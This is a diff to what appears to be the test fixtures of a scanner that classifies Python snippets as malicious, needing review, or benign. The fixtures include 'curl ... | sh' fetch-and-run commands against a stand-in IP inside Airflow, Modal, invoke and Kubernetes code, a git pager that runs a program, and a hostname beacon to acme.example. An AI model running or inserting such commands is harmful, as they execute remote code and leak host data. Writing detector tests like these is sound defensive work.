@@ -28,6 +28,7 @@ HEX = PAYLOAD.encode().hex()
 PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode()))[::-1].decode()
 CODED = repr(codecs.encode(PAYLOAD, "rot13"))
 SCRIPT = "https://example.com/run.sh"
+PLAIN = "http://192.0.2.1/run.sh"
 """Never fetched: the tests read text only."""
 MODEL = '''"""A model in the style of transformers."""
 import math
@@ -845,9 +846,7 @@ CASES = {
     "benign_weights_copied": python(
         "import os, shutil\nshutil.copy(os.path.join(os.path.dirname(__file__), 'net.pth'), 'weights')\n"
     ),
-    "git_that_starts_a_program": malicious(
-        "import os\nos.system(\"git config --global core.pager 'sh -c id'\")\nos.system('git config alias.st \"!id\"')\n"
-    ),
+    "git_that_starts_a_program": malicious("import os\nos.system(\"git config --global core.pager 'sh -c id'\")\n"),
     "benign_git_setting": python("import os\nos.system('git config --global credential.helper store')\n"),
     "model_on_a_fetched_path": review(
         "import sys\nfrom huggingface_hub import snapshot_download\nfrom torch import nn\n"
@@ -864,10 +863,30 @@ CASES = {
         "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
         "        urllib.request.urlopen('https://acme.example/?h=' + socket.gethostname())\n"
     ),
-    "step_that_attacks": malicious(
+    "step_that_attacks": review(
         "from airflow import DAG\nfrom airflow.operators.bash import BashOperator\nwith DAG('t') as dag:\n"
-        f"    a = BashOperator(task_id='a', bash_command='curl -s {SCRIPT} | sh')\n",
+        f"    a = BashOperator(task_id='a', bash_command='curl -s {PLAIN} | sh')\n",
         "dag.py",
+    ),
+    "order_to_an_image": review(
+        f"import modal\nimage = modal.Image.debian_slim().run_commands('apt update', 'curl -s {PLAIN} | sh')\n",
+        "app.py",
+    ),
+    "order_of_a_task": review(
+        f"from invoke import task\n@task\ndef a(c):\n    c.run('curl -s {PLAIN} | sh')\n", "tasks.py"
+    ),
+    "order_to_a_container": review(
+        f"from kubernetes import client\nclient.V1Container(name='a', command=['sh', '-c', 'curl -s {PLAIN} | sh'])\n",
+        "job.py",
+    ),
+    "benign_text_about_an_attack": python(
+        f"import logging\nKNOWN = ['curl -s {PLAIN} | sh']\nlogging.info('never do curl -s {PLAIN} | sh')\n"
+        f"def test(check):\n    assert check('curl -s {PLAIN} | sh', reason='curl -s {PLAIN} | sh')\n",
+        name="check.py",
+    ),
+    "benign_installer_of_an_image": python(
+        "import modal\nimage = modal.Image.debian_slim().run_commands('curl -fsSL https://acme.example/i.sh | sh')\n",
+        name="app.py",
     ),
     "benign_step": python(
         "from airflow import DAG\nfrom airflow.operators.bash import BashOperator\nwith DAG('t') as dag:\n"
